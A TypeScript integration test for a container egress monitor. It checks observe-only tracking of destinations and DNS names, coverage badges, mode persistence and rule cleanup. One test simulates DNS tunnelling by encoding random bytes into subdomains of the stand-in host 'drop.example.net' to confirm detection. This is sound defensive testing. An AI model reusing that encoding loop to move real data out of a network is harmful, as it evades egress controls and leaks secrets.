import { rmSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { findResolverCgroups } from '../../../monitor/egress/resolver/resolver-cgroup.ts';
import { describeWith, engineSocket } from '../../engine/capabilities.ts';
import { testContainers } from '../../engine/containers.ts';
import type { TestContainer, TestContainers } from '../../engine/containers.ts';
import {
  addressOf,
  eventually,
  inNetworkOf,
  openEgressWatch,
  startNameServer,
  untilKnown,
} from './egress-stage.ts';
import type { EgressWatch } from './egress-stage.ts';

const reached = 0;

describeWith(['engine', 'debian-image', 'root'], 'After a fresh install', () => {
  let containers: TestContainers;
  let agent: TestContainer;
  let strong: TestContainer;
  let onHost: TestContainer;
  let alone: TestContainer;
  let watch: EgressWatch;
  let stopNames: () => void;
  let [serverAddress, otherAddress] = ['', ''];
  let untouched = '';

  const ruleset = (container: TestContainer): Promise<string> =>
    inNetworkOf(container, ['nft', 'list', 'ruleset']);
  const sight = async (container: TestContainer) => (await watch.view(container)).coverage?.sight;
  const isTold = (container: TestContainer, words: string): Promise<void> =>
    eventually(words, async () => {
      const { coverage } = await watch.view(container);
      return coverage !== undefined && JSON.stringify(coverage).includes(words);
    });

  beforeAll(async () => {
    containers = testContainers(engineSocket());
    const web = ['sh', '-c', 'echo hello >/www/index.html; exec httpd -f -p 80 -h /www'];
    const sleep = ['sleep', '10000'];
    let server: TestContainer;
    let other: TestContainer;
    [agent, server, other, strong, onHost, alone] = await Promise.all([
      containers.start({ args: sleep, image: 'debian' }),
      containers.start({ args: web }),
      containers.start({ args: web }),
      containers.start({ args: sleep, capabilities: ['NET_ADMIN'] }),
      containers.start({ args: sleep, network: 'host' }),
      containers.start({ args: sleep, network: 'none' }),
    ]);
    [serverAddress, otherAddress] = await Promise.all([addressOf(server), addressOf(other)]);
    stopNames = await startNameServer(other, {
      'shop.test': serverAddress,
      'drop.example.net': serverAddress,
    });
    const servers = `echo nameserver ${otherAddress} >/etc/resolv.conf`;
    expect(await agent.exec(['sh', '-c', servers])).toBe(0);
    untouched = await ruleset(agent);
    watch = await openEgressWatch([]);
    // As it is before anybody has said anything about egress.
    rmSync(watch.file);
    await watch.start();
    await untilKnown(watch, agent);
  }, 240_000);

  afterAll(async () => {
    await watch.close();
    stopNames();
    await containers.removeAll();
  });

  const curl = (url: string): Promise<number> =>
    agent.exec(['curl', '-sf', '-o', '/dev/null', '--max-time', '10', url]);

  test('a container is seen where it talks to, by name and address, and nothing is refused', async () => {
    await isTold(agent, 'which it could forge');
    expect(await curl('http://shop.test/')).toBe(reached);
    expect(await curl(`http://${otherAddress}/`)).toBe(reached);
    const seen = () => {
      const answer = watch.service().egressSeen({ target: agent.id, hours: 1 });
      return answer.ok ? answer.value.destinations : [];
    };
    await eventually('both are seen', () => {
      const places = seen().map(({ name, address, port }) => `${name ?? address} ${port}`);
      return places.includes('shop.test 80') && places.includes(`${otherAddress} 80`);
    });
    expect(seen().every(({ refusedPackets }) => refusedPackets === 0)).toBe(true);
    expect((await watch.view(agent)).mode).toBe('observe');
    expect(watch.findings.filter(({ container }) => container === agent.id)).toEqual([]);
    const rules = await ruleset(agent);
    expect(rules).not.toMatch(/\b(?:drop|reject|redirect|dnat|mark set)\b/);
    expect(findResolverCgroups().has(agent.id)).toBe(false);
  });

  test('what cannot be observed says so on its badge alone', async () => {
    await Promise.all([isTold(alone, 'lasting'), isTold(onHost, 'lasting')]);
    const quiet = { state: 'blind', lasting: true };
    expect(await sight(onHost)).toMatchObject({
      ...quiet,
      reason: expect.stringContaining('network of the machine') as string,
    });
    expect(await sight(alone)).toMatchObject({
      ...quiet,
      reason: expect.stringContaining('no network') as string,
    });
    await isTold(strong, 'CAP_NET_ADMIN');
    expect((await sight(strong))?.state).toBe('partly');
    expect(watch.findings).toEqual([]);
    expect(watch.log.filter((line) => line.includes('egress'))).toEqual([]);
  });

  test('names are told as asked and answered, and a tunnel in them is found', async () => {
    const python = (text: string): Promise<number> =>
      agent.exec(['python3', '-c', `import socket,os,sys\n${text}`]);
    const seen = (name: string) => {
      const answer = watch.service().egressSeen({ target: agent.id, hours: 1 });
      return answer.ok ? answer.value.names.find((each) => each.name === name) : undefined;
    };
    const tunnel = () => watch.findings.filter(({ kind }) => kind === 'dns-tunnel');
    expect(await python('socket.gethostbyname("shop.test")')).toBe(0);
    // It knows of no such name.
    expect(await python('socket.gethostbyname("none.test")')).toBe(1);
    await eventually('both are', () => {
      const [good, none] = [seen('shop.test'), seen('none.test')];
      return (good?.answered ?? 0) > 0 && (none?.asked ?? 0) > 0;
    });
    expect(seen('none.test')).toMatchObject({ answered: 0, refused: 0, held: 0 });
    expect(tunnel()).toEqual([]);
    expect(
      await python(`for i in range(60):
  part=os.urandom(90).hex()
  name=".".join(part[at:at+60] for at in range(0,180,60))+".drop.example.net"
  if socket.gethostbyname(name)!="${serverAddress}": sys.exit(4)`),
    ).toBe(0);
    await eventually('the tunnel is found', () => tunnel().length > 0);
    expect(tunnel()[0]?.container).toBe(agent.id);
  });

  test('the choice to leave it untouched is kept, and so is a later one to observe', async () => {
    expect((await watch.mode(agent, 'off')).coverage).toBeUndefined();
    expect(await ruleset(agent)).toBe(untouched);
    await watch.stop();
    await watch.start();
    await untilKnown(watch, agent);
    expect((await watch.view(agent)).mode).toBe('off');
    await watch.mode(agent, 'observe');
    expect(await ruleset(agent)).toContain('table inet sentra');
  });

  test('its network is as it was once the monitor has ended', async () => {
    await eventually('it is counted again', async () => (await curl('http://shop.test/')) === 0);
    await watch.stop();
    expect(await ruleset(agent)).toBe(untouched);
    expect(await curl('http://shop.test/')).toBe(reached);
  });
});
